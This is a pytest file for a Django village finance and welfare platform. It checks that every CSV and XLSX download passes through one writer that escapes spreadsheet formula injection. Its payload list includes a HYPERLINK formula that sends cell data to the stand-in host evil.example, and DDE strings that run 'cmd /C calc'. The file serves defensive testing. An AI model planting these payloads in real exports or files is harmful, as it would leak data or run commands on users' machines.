"""Every CSV and XLSX the platform hands out goes through the one writer and is safe to
open in a spreadsheet (issue 14, point 10): formula payloads come out as text.

The downloads are found in the URL conf (a route ending .csv or .xlsx, or .<fmt>): a new
one fails `test_it_knows_every_download` until it is added here, and each is then fed the
payloads twice, through real data where the fixtures have it (a summary and a welfare
name `=HYPERLINK(…)`) and as an extra row added to whatever table it writes.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from datetime import date
from typing import Any

import pytest
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from sunlit.conftest import TOWNSHIP_A, VILLAGE_A, Cast
from sunlit.finance.tests.conftest import _keys_and_cache, director_a  # noqa: F401 -- fixtures
from sunlit.finance.tests.test_public import books  # noqa: F401 -- a fixture
from sunlit.lib import exports
from sunlit.welfare import services as welfare
from sunlit.welfare.models import Programme
from sunlit.welfare.tests.conftest import new_id

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"看这里")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = re.compile(r"^[=+\-@\t\r]")
# A number we wrote (a negative amount) may start with "-": it is a number, not a formula.
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")

# URL name → its arguments and query; every download of the URL conf is here.
DOWNLOADS: dict[str, tuple[list[Any], dict[str, str]]] = {
    "finance:month_csv": ([VILLAGE_A, "2025-03"], {}),
    "finance:month_xlsx": ([VILLAGE_A, "2025-03"], {}),
    "finance:account_csv": ([VILLAGE_A, "2025", "541"], {}),
    "finance:account_xlsx": ([VILLAGE_A, "2025", "541"], {}),
    "finance:township_search_csv": ([TOWNSHIP_A], {"q": "HYPERLINK"}),
    "finance:township_search_xlsx": ([TOWNSHIP_A], {"q": "HYPERLINK"}),
    "finance:import_template": ([], {}),
    "projects:import_template": ([], {}),
    "welfare:import_template": ([], {}),
    "welfare:list_csv": ([VILLAGE_A, "dibao", 2025], {}),
}
CASES = [
    (name, fmt)
    for name in sorted(DOWNLOADS)
    for fmt in ("csv", "xlsx")
    if name.endswith(("import_template", f"_{fmt}"))
]
# The downloads whose data the fixtures fill with a payload (the others get the added row only).
FED_BY_DATA = {name for name in DOWNLOADS if not name.endswith("import_template")}


def _patterns(resolver: URLResolver, prefix: str = "") -> Iterator[tuple[str, str]]:
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            namespace = f"{prefix}{entry.namespace}:" if entry.namespace else prefix
            yield from _patterns(entry, namespace)
        elif isinstance(entry, URLPattern) and entry.name:
            yield f"{prefix}{entry.name}", str(entry.pattern)


def _downloads() -> set[str]:
    return {name for name, route in _patterns(get_resolver()) if re.search(r"\.(csv|xlsx|<str:fmt>)$", route)}


def _cells(response: Any) -> list[str]:
    if response["Content-Type"].startswith("text/csv"):
        body = response.content.decode("utf-8")
        assert body.startswith("\ufeff")
        return [cell for row in csv.reader(io.StringIO(body[1:])) for cell in row]
    book = load_workbook(io.BytesIO(response.content))
    return [str(c.value) for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value is not None]


def _assert_safe(cells: list[str]) -> None:
    live = [c for c in cells if FORMULA.match(c) and not NUMBER.match(c)]
    assert not live, f"cells a spreadsheet would run as formulas: {live}"


class TestWriter:
    @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
    def test_it_neutralises_every_formula_start_and_keeps_numbers(self, fmt: str) -> None:
        response = exports.response(
            fmt, ["=header", "amount", "n"], [[p, exports.Money(-1250), -3] for p in PAYLOADS], filename="t"
        )
        cells = _cells(response)
        _assert_safe(cells)
        # (XML reads a carriage return back as a line feed.)
        expected = {"'" + (p.replace("\r", "\n") if fmt == "xlsx" else p) for p in PAYLOADS}
        assert expected <= set(cells) and "'=header" in cells
        assert ("-12.50" if fmt == "csv" else "-12.5") in cells and "-3" in cells
        assert response["Content-Disposition"] == f'attachment; filename="t.{fmt}"'

    def test_it_writes_xlsx_text_as_text_never_as_a_formula(self) -> None:
        book = load_workbook(io.BytesIO(exports.to_xlsx(["a"], [[p] for p in PAYLOADS])))
        cells = [row[0] for row in book.active.iter_rows(min_row=2)]
        assert all(c.data_type == "s" for c in cells)

    def test_it_answers_404_for_another_format(self) -> None:
        from django.http import Http404

        with pytest.raises(Http404):
            exports.response("ods", ["a"], [], filename="t")


def test_it_knows_every_download() -> None:
    assert _downloads() == set(DOWNLOADS)


@pytest.fixture
def welfare_list(cast: Cast, settings: Any) -> None:
    """Village A's published 低保 list of 2025, names shown in full, one of them a payload."""
    settings.SUNLIT_WELFARE_NAME_MASK = "full"
    household = welfare.household_create(
        village_code=VILLAGE_A,
        number="0001",
        card_last4="6789",
        members=[welfare.MemberInput(PAYLOADS[0][:20], "head", new_id(1))],
        by=cast.cadre_a,
    )
    dibao = Programme.objects.get(code="dibao")
    welfare.payment_record(
        programme=dibao,
        household=household,
        period="2025-01",
        amount_fen=65000,
        paid_on=date(2025, 1, 10),
        by=cast.cadre_a,
    )
    welfare.list_publish(village_code=VILLAGE_A, programme=dibao, year=2025, by=cast.cadre_a)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "fmt"), CASES)
def test_it_feeds_the_payloads_to_every_download(
    client: Client,
    books: Any,  # noqa: F811 -- the fixture imported above
    welfare_list: None,
    monkeypatch: pytest.MonkeyPatch,
    name: str,
    fmt: str,
) -> None:
    args, query = DOWNLOADS[name]
    if name.endswith("import_template"):
        args = [fmt]
    written: list[str] = []
    original = exports.response

    def spy(fmt: str, headers: Any, rows: Any, **kw: Any) -> Any:
        # The payloads as one more row of whatever the view writes.
        written.append(fmt)
        extra = (PAYLOADS * (len(headers) // len(PAYLOADS) + 1))[: len(headers)]
        return original(fmt, headers, [*rows, extra], **kw)

    monkeypatch.setattr(exports, "response", spy)
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200 and written == [fmt], "the download must come from the one writer"
    cells = _cells(response)
    _assert_safe(cells)
    assert "'" + PAYLOADS[1] in cells  # the added row, neutralised
    if name in FED_BY_DATA:
        # And the payload the data carried (a summary of the books, a name on the list).
        assert any(c.startswith("'=HYPERLINK(") for c in cells if c not in {"'" + p for p in PAYLOADS})
